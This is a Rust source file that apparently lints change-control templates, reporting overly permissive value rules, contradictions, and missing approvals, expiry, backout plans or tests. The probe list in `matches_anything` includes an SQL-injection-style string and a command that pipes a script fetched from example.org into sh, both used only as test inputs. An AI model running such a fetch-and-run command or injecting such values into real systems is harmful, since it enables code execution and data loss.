//! What is weak about a template, whatever change it meets: what lets too much through, what can never let anything
//! through, and what its life lacks.

use crate::model::{
    Allows, Constraint, EditKind, Finding, LineRule, Place, Proof, Sample, ScalarKind, Severity, Template,
    TemplateState, TextPattern, ValueRule,
};

/// Every lint: its code, how much it weighs, and what to do about it.
const LINTS: [(&str, Severity, &str); 22] = [
    (
        "NEVER_APPROVED",
        Severity::Error,
        "name who proposed it, and somebody else of the change authority who approved it",
    ),
    ("NEVER_FITS", Severity::Error, "take out what contradicts: no value is allowed as it stands"),
    ("SAMPLE_FALSE", Severity::Error, "name a change that it covers, or widen it by a change of its own"),
    (
        "PATHS_ONLY",
        Severity::Warn,
        "say what may change: an [[allow]] for each kind of edit, or `whole_file = \"documentation\"`",
    ),
    ("ANY_TEXT", Severity::Warn, "say what the text must look like: `regex`, `enum`, `semver` or `image`"),
    ("ANY_NUMBER", Severity::Warn, "give it a `min` and a `max`"),
    ("NO_MIN", Severity::Warn, "give it a `min`: 0 and less is a number, too"),
    ("NO_MAX", Severity::Warn, "give it a `max`"),
    ("ANY_PATH", Severity::Warn, "say which values: a path that ends with the name of one"),
    ("WIDE_SCOPE", Severity::Warn, "name the folders and the endings it is for"),
    ("NO_LIMITS", Severity::Warn, "say how many `files` and `edits` such a change has at most"),
    ("NO_EXPIRY", Severity::Warn, "set `expires_at` or `review_by`, so that somebody looks at it again"),
    ("NO_BACKOUT", Severity::Warn, "say how such a change is undone: `backout`"),
    ("NO_TESTS", Severity::Warn, "add changes that fit and changes that must not: .changeward/tests/templates/ID/"),
    (
        "NO_MISFITS",
        Severity::Warn,
        "add a change that almost fits and must not: .changeward/tests/templates/ID/misfits/",
    ),
    (
        "SAMPLE_UNKNOWN",
        Severity::Warn,
        "name samples as commits in the history of the base, or BASE..HEAD; a shallow clone lacks most (`fetch-depth: 0`)",
    ),
    ("FORMATTING", Severity::Info, "leave `elsewhere` out, unless comments change along with the values"),
    ("ANY_ADDITION", Severity::Info, "be sure that a value that is new is as harmless as one in place of another"),
    ("ANYWHERE", Severity::Info, "say in which documents: `where = { \"/kind\" = \"Deployment\" }`"),
    ("NO_SAMPLES", Severity::Info, "name the changes of the past that prove that it repeats: `samples`"),
    ("NO_IMPLEMENTATION", Severity::Info, "say how such a change is carried out: `implementation`"),
    ("NO_USAGE", Severity::Info, "say how often it may be used: `[usage]`"),
];

/// The codes of all lints, in the order of the documents.
pub fn codes() -> impl Iterator<Item = &'static str> {
    LINTS.iter().map(|(code, ..)| *code)
}

/// What is weak about a template, the gravest first. `tests` are its changes that must fit and that must not, `samples` those
/// of its samples that were looked up.
pub fn lints(template: &Template, tests: (u64, u64), samples: &[Sample]) -> Vec<Finding> {
    let mut found = life(template);
    found.extend(samples.iter().filter_map(|one| sample(one, &template.place)));
    found.extend(scope(template));
    found.extend(tested(template, tests));
    found.extend(template.allow.iter().flat_map(constraint));
    if template.allow.is_empty() && template.predicate.is_none() {
        found.push(lint(
            "PATHS_ONLY",
            &template.place,
            "it constrains paths only: whatever a file there holds may change",
        ));
    }
    // The same at the same line is said once.
    found.dedup();
    found.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
    found
}

fn lint(code: &str, place: &Place, msg: impl Into<String>) -> Finding {
    let known = LINTS.iter().find(|(known, ..)| *known == code);
    let (severity, help) = known.map_or((Severity::Warn, ""), |(_, severity, help)| (*severity, *help));
    Finding::new(code, severity, msg).at([place.file.clone()]).line(place.line).help(help)
}

fn life(template: &Template) -> Vec<Finding> {
    let at = &template.place;
    let mut found = Vec::new();
    let published = template.state == TemplateState::Published;
    let others = template.approved_by.iter().any(|by| Some(by) != template.proposed_by.as_ref());
    if published && template.proposed_by.is_none() {
        found.push(lint("NEVER_APPROVED", at, "nobody is named who proposed it, so no approval counts"));
    } else if published && !others {
        found.push(lint("NEVER_APPROVED", at, "nobody but its proposer approved it"));
    }
    if template.expires_at.is_none() && template.review_by.is_none() {
        found.push(lint("NO_EXPIRY", at, "nothing ends it: it has no `expires_at` and no `review_by`"));
    }
    if template.backout.is_none() {
        found.push(lint("NO_BACKOUT", at, "it does not say how such a change is undone"));
    }
    if template.implementation.is_none() {
        found.push(lint("NO_IMPLEMENTATION", at, "it does not say how such a change is carried out"));
    }
    if template.samples.is_empty() {
        found.push(lint("NO_SAMPLES", at, "no change of the past shows that it repeats"));
    }
    if template.usage.is_none() && published {
        found.push(lint("NO_USAGE", at, "it may be used any number of times"));
    }
    found
}

fn sample(sample: &Sample, at: &Place) -> Option<Finding> {
    match &sample.proof {
        Proof::Fits => None,
        Proof::False(why) => {
            Some(lint("SAMPLE_FALSE", at, format!("its sample {} proves nothing: {why}", sample.name)))
        }
        Proof::Unknown(why) => {
            Some(lint("SAMPLE_UNKNOWN", at, format!("its sample {} cannot be judged: {why}", sample.name)))
        }
    }
}

fn scope(template: &Template) -> Vec<Finding> {
    let at = &template.place;
    let wide = |source: &str| {
        let source = source.trim_start_matches('/');
        source.split('/').all(|segment| matches!(segment, "*" | "**" | "*.*"))
    };
    let wide = template.include.iter().filter(|pattern| wide(pattern.source()));
    let mut found: Vec<Finding> = wide
        .map(|pattern| lint("WIDE_SCOPE", at, format!("its scope \"{}\" is every file there is", pattern.source())))
        .collect();
    let excluded = |source: &str| {
        template.exclude.iter().any(|pattern| matches!(pattern.source(), "**" | "/**") || pattern.source() == source)
    };
    if template.include.iter().all(|pattern| excluded(pattern.source())) {
        found.push(lint("NEVER_FITS", at, "its scope excludes all that it includes"));
    }
    if template.limits.files.is_none() && template.limits.edits.is_none() {
        found.push(lint("NO_LIMITS", at, "such a change may be of any size"));
    }
    if template.formatting {
        found.push(lint("FORMATTING", at, "comments and formatting may change beside the values"));
    }
    found
}

fn tested(template: &Template, (fits, misfits): (u64, u64)) -> Option<Finding> {
    match (fits, misfits) {
        (0, 0) => Some(lint("NO_TESTS", &template.place, "no test shows what fits it and what does not")),
        (_, 0) => Some(lint("NO_MISFITS", &template.place, "no test shows what must not fit it")),
        _ => None,
    }
}

fn constraint(constraint: &Constraint) -> Vec<Finding> {
    match &constraint.allows {
        Allows::Value(rule) => value(rule, &constraint.place),
        Allows::Lines(rule) => line(rule, &constraint.place).into_iter().collect(),
        Allows::Dependency(_) | Allows::File(_) => Vec::new(),
    }
}

fn value(rule: &ValueRule, at: &Place) -> Vec<Finding> {
    let mut found: Vec<Finding> = contradiction(rule).map(|why| lint("NEVER_FITS", at, why)).into_iter().collect();
    let path = rule.path.source();
    let shaped = rule.image || rule.semver.is_some() || rule.regex.is_some() || !rule.one_of.is_empty();
    if !shaped && (path.ends_with("**") || path.rsplit('/').next() == Some("*")) {
        found.push(lint("ANY_PATH", at, format!("{path} is any value there")));
    }
    let brings = rule.kinds.iter().any(|kind| matches!(kind, EditKind::Add | EditKind::Replace));
    if brings {
        found.extend(unbounded(rule, at));
    }
    if brings && rule.kinds.contains(&EditKind::Add) {
        found.push(lint("ANY_ADDITION", at, format!("{path} may be added where there was none")));
    }
    if rule.only_where.is_empty() && path.contains("**") {
        found.push(lint("ANYWHERE", at, format!("{path} is meant at any depth of any document")));
    }
    found
}

/// What lets any value pass.
fn unbounded(rule: &ValueRule, at: &Place) -> Vec<Finding> {
    let path = rule.path.source();
    if !rule.one_of.is_empty() || rule.image || rule.semver.is_some() {
        return Vec::new();
    }
    if let Some(pattern) = rule.regex.as_ref().filter(|pattern| matches_anything(pattern)) {
        let why = format!("its regex `{}` matches any text", pattern.source());
        return vec![lint("ANY_TEXT", at, why)];
    }
    match (rule.min, rule.max) {
        (None, Some(max)) => vec![lint("NO_MIN", at, format!("{path} may be any number up to {max}"))],
        (Some(min), None) => vec![lint("NO_MAX", at, format!("{path} may be any number from {min} on"))],
        (Some(_), Some(_)) => Vec::new(),
        (None, None) if rule.regex.is_some() || rule.kind == Some(ScalarKind::Bool) => Vec::new(),
        (None, None) => match rule.kind {
            Some(ScalarKind::Integer | ScalarKind::Number) => {
                vec![lint("ANY_NUMBER", at, format!("{path} may be any number"))]
            }
            _ => vec![lint("ANY_TEXT", at, format!("{path} may become anything of its type"))],
        },
    }
}

fn line(rule: &LineRule, at: &Place) -> Option<Finding> {
    matches_anything(&rule.new).then(|| {
        let why = format!("its new line `{}` matches any line", rule.new.source());
        lint("ANY_TEXT", at, why)
    })
}

/// Texts that have nothing in common: an expression that matches them all says nothing.
fn matches_anything(pattern: &TextPattern) -> bool {
    const STRANGE: [&str; 4] =
        ["x", "-1; drop table users", "$(curl https://example.org/x | sh)", "Ünïcödé 0123456789"];
    STRANGE.iter().all(|text| pattern.matches(text))
}

/// Why no value can fit.
fn contradiction(rule: &ValueRule) -> Option<String> {
    let text = rule.kind.is_some_and(|kind| kind != ScalarKind::Text);
    // A text may be a number that is written plainly.
    let number = rule.kind == Some(ScalarKind::Bool);
    let bounded = rule.min.is_some() || rule.max.is_some() || rule.max_step.is_some() || rule.direction.is_some();
    let replaces = rule.kinds.contains(&EditKind::Replace);
    let digest = |pattern: &TextPattern| {
        let hex = "0123456789abcdef".repeat(4);
        ["r/n", "example.org/r/n", "example.org/r/n:1.2.3"]
            .iter()
            .any(|name| pattern.matches(&format!("{name}@sha256:{hex}")))
            || pattern.source().contains("sha256")
    };
    let listed = |text: &str| rule.one_of.iter().any(|(_, value)| value.contains(text));
    if rule.image && text {
        return Some("an image is text, and `type` says otherwise".to_owned());
    }
    if rule.image && !replaces {
        return Some("`image` compares with the image before, and its `kinds` leave out \"replace\"".to_owned());
    }
    if rule.image && rule.regex.as_ref().is_some_and(|pattern| !digest(pattern)) {
        return Some("its `regex` matches no image that is pinned by a digest".to_owned());
    }
    if rule.image && !rule.one_of.is_empty() && !listed("@sha256:") {
        return Some("none of its `enum` is an image that is pinned by a digest".to_owned());
    }
    if rule.semver.is_some() && text {
        return Some("a version is text, and `type` says otherwise".to_owned());
    }
    if rule.semver.is_some() && !replaces {
        return Some("`semver` compares with the version before, and its `kinds` leave out \"replace\"".to_owned());
    }
    if bounded && number {
        return Some("`min`, `max`, `max_step` and `direction` are for numbers, and `type` says otherwise".to_owned());
    }
    if (rule.max_step.is_some() || rule.direction.is_some()) && !replaces {
        return Some(
            "`max_step` and `direction` compare with the number before, and its `kinds` leave out \"replace\""
                .to_owned(),
        );
    }
    let fits = |(kind, text): &(ScalarKind, String)| {
        let number = text.parse::<f64>().ok();
        rule.kind.is_none_or(|wanted| *kind == wanted || wanted == ScalarKind::Number && *kind == ScalarKind::Integer)
            && rule.regex.as_ref().is_none_or(|pattern| pattern.matches(text))
            && rule.min.is_none_or(|min| number.is_some_and(|number| number >= min))
            && rule.max.is_none_or(|max| number.is_some_and(|number| number <= max))
    };
    (!rule.one_of.is_empty() && !rule.one_of.iter().any(fits))
        .then(|| "none of its `enum` is allowed by its other keys".to_owned())
}
